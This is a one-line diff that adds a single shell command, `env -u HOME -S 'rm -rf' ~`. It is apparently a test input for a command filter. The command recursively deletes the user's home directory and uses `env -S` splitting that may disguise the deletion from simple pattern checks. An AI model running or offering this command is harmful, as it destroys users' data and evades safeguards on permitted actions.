@@ -1,0 +1,1 @@
+env -u HOME -S 'rm -rf' ~
